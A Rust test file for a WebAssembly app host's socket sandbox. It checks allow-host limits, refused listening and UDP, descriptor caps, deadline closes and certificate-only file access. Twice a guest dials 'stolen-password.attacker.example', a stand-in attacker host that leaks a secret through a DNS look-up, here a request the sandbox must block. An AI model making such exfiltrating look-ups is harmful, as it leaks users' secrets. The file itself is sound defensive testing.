//! Apps that may reach servers, by sockets: what they get, and no more than that.

use crate::{beside_others, hostile, launch};
use dapr_wasm_tests::{Host, Launch, PATIENCE, until};
use std::io::{ErrorKind, Read as _};
use std::net::{TcpListener, UdpSocket};
use std::thread;

/// A server of the test's.
struct Server {
    listener: TcpListener,
    address: String,
}

impl Server {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("there is a free port");
        listener.set_nonblocking(true).expect("sockets have this option");
        let address = listener.local_addr().expect("it is bound").to_string();
        Self { listener, address }
    }

    /// How often somebody has connected since it was last asked. The kernel has taken the connection before the client is
    /// told.
    fn reached(&self) -> usize {
        std::iter::from_fn(|| self.listener.accept().ok()).count()
    }

    fn allowed(&self) -> String {
        format!("allow-hosts = [{:?}]", self.address)
    }
}

fn said(host: &Host, path: &str) -> String {
    let response = host.get(path);
    assert_eq!(response.status, 200, "{}", response.text());
    response.text()
}

#[track_caller]
fn assert_refused(said: &str) {
    assert!(said.starts_with("PermissionDenied"), "{said}");
}

#[test]
fn what_allow_hosts_names_is_reached_and_no_other_port_or_host() {
    let _machine = beside_others();
    let (server, other) = (Server::start(), Server::start());
    let port = server.address.rsplit(':').next().expect("it has a port");
    for name in ["127.0.0.1", "localhost"] {
        let host = hostile(&format!("allow-hosts = [\"{name}:{port}\"]"));
        assert_eq!(said(&host, &format!("/dial/{name}:{port}")), "connected");
        assert_eq!(server.reached(), 1, "{name}");
        assert_refused(&said(&host, &format!("/dial/{}", other.address)));
        assert_refused(&said(&host, &format!("/dial/127.0.0.2:{port}")));
        assert_eq!((server.reached(), other.reached()), (0, 0), "{name}");
        let line = host.wait_for_log(&format!("may not connect to {}", other.address));
        let allowed = format!(
            "allow it with allow-hosts = [\"{name}:{port}\", {:?}] in [app]",
            other.address
        );
        assert!(line.contains("app `hostile`") && line.contains(&allowed), "{line}");
    }
}

#[test]
fn a_name_that_is_listed_is_no_leave_for_its_address() {
    let _machine = beside_others();
    let server = Server::start();
    let host = hostile(&server.allowed().replace("127.0.0.1", "localhost"));
    assert_refused(&said(&host, &format!("/dial/{}", server.address)));
    assert_eq!(server.reached(), 0);
}

#[test]
fn a_name_that_is_not_listed_is_not_looked_up() {
    let _machine = beside_others();
    let host = hostile("allow-hosts = [\"db.example:6379\"]");
    // A look-up would carry this name to whoever serves its domain.
    let text = said(&host, "/dial/stolen-password.attacker.example:6379");
    assert_refused(&text);
    let line = host.wait_for_log("may not look up");
    assert!(
        line.contains("`stolen-password.attacker.example`") && line.contains("in [app]"),
        "{line}"
    );
}

#[test]
fn an_app_of_wasi_0_3_has_the_sockets_of_0_2() {
    let _machine = beside_others();
    let (server, other) = (Server::start(), Server::start());
    let host = Launch::guest("hostile-async").components(&format!("[app]\n{}", server.allowed()));
    let host = host.start();
    let dial = |address: &str| said(&host, &format!("/dial/{address}"));
    thread::scope(|scope| {
        let dialled: Vec<_> = (0..8).map(|_| scope.spawn(|| dial(&server.address))).collect();
        dialled
            .into_iter()
            .for_each(|dialled| assert_eq!(dialled.join().unwrap(), "connected"));
    });
    assert_eq!(server.reached(), 8);
    assert_refused(&dial(&other.address));
    assert_refused(&dial("stolen-password.attacker.example:1"));
    assert_eq!(other.reached(), 0);
}

/// Also where there are sockets, and the very address is listed.
#[test]
fn no_app_listens_or_sends_datagrams() {
    let _machine = beside_others();
    let receiver = UdpSocket::bind("127.0.0.1:0").expect("there is a free port");
    receiver.set_nonblocking(true).expect("sockets have this option");
    let address = receiver.local_addr().expect("it is bound");
    for settings in [String::new(), format!("allow-hosts = [\"{address}\"]")] {
        let host = hostile(&settings);
        for path in ["/listen".to_owned(), format!("/send/{address}")] {
            assert_refused(&said(&host, &path));
        }
    }
    let received = receiver.recv(&mut [0; 8]).expect_err("nothing was sent");
    assert_eq!(received.kind(), ErrorKind::WouldBlock);
}

/// `EMFILE`, as WASI numbers it.
const TOO_MANY: i32 = 33;

#[test]
fn an_instance_gets_so_many_connections_which_end_with_it() {
    let _machine = beside_others();
    let server = Server::start();
    let host = launch(&server.allowed()).descriptors(1024).start();
    host.wait_for_log("128 sockets an instance, 256 in all");
    // All of them are half of what the app may have: the third instance has what the first one had.
    for _ in 0..6 {
        let text = said(&host, &format!("/hoard/{}", server.address));
        assert_eq!(text, format!("128: {:?}", Some(TOO_MANY)));
        // Makes room among those that the kernel has taken: it holds no more of them than this.
        assert_eq!(server.reached(), 128);
    }
}

#[test]
fn all_instances_of_an_app_together_leave_the_host_descriptors() {
    let _machine = beside_others();
    let server = Server::start();
    let hold = format!("/hold/{}", server.address);
    let settings = format!("{}\nrequest-timeout = \"10s\"", server.allowed());
    let host = launch(&settings).descriptors(256).start();
    thread::scope(|scope| {
        let held: Vec<_> = (0..8).map(|_| scope.spawn(|| host.get(&hold).status)).collect();
        let mut reached = 0;
        until("a quarter of the descriptors to be in use", PATIENCE, || {
            reached += server.reached();
            (reached == 64).then_some(())
        });
        for _ in 0..10 {
            // Each by a connection of its own.
            let refused = said(&host, &format!("/hoard/{}", server.address));
            assert_eq!(refused, format!("0: {:?}", Some(TOO_MANY)));
        }
        held.into_iter().for_each(|held| assert_eq!(held.join().unwrap(), 504));
        assert_eq!(reached + server.reached(), 64);
    });
    // An instance ends a moment after its answer.
    until("the connections to be given back", PATIENCE, || {
        let text = said(&host, &format!("/hoard/{}", server.address));
        text.starts_with("64: ").then_some(())
    });
}

#[test]
fn a_connection_ends_with_the_instance_that_is_ended_at_the_deadline() {
    let _machine = beside_others();
    let server = Server::start();
    let host = hostile(&format!("{}\nrequest-timeout = \"1s\"", server.allowed()));
    assert_eq!(host.get(&format!("/hold/{}", server.address)).status, 504);
    let (mut stream, _) = server.listener.accept().expect("it was connected to");
    stream.set_nonblocking(true).expect("sockets have this option");
    until("the connection to end", PATIENCE, || match stream.read(&mut [0]) {
        Err(error) if error.kind() == ErrorKind::WouldBlock => None,
        Ok(0) | Err(_) => Some(()),
        Ok(_) => panic!("nothing was sent"),
    });
}

#[test]
fn an_app_with_sockets_reads_the_systems_certificates_and_nothing_else() {
    let _machine = beside_others();
    let folder = tempfile::tempdir().expect("there is a folder for temporary files");
    let bundle = folder.path().join("mine.pem");
    std::fs::write(&bundle, "certificates\n").expect("it is writable");
    let started = |settings: &str| {
        launch(settings)
            .env("SSL_CERT_FILE", &bundle.display().to_string())
            .start()
    };
    let host = started("allow-hosts = [\"db.example:6379\"]");
    let text = said(&host, "/certificates");
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(
        lines[..2],
        ["Ok(Ok([\"ca-certificates.crt\"]))", "certificates"],
        "{text}"
    );
    let refused = |line: &&str| line.starts_with("PermissionDenied") || line.starts_with("ReadOnlyFilesystem");
    assert!(lines[2..].len() == 4 && lines[2..].iter().all(refused), "{text}");
    assert_eq!(
        said(&host, "/env"),
        "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt\n"
    );
    assert_eq!(std::fs::read(&bundle).expect("it is there"), b"certificates\n");

    let own = started("allow-hosts = [\"db.example:6379\"]\nenv = { SSL_CERT_FILE = \"/mine\" }");
    assert_eq!(
        said(&own, "/env"),
        "SSL_CERT_FILE=/mine\n",
        "what the configuration says holds"
    );
    let without = started("");
    assert_eq!(said(&without, "/env"), "");
}
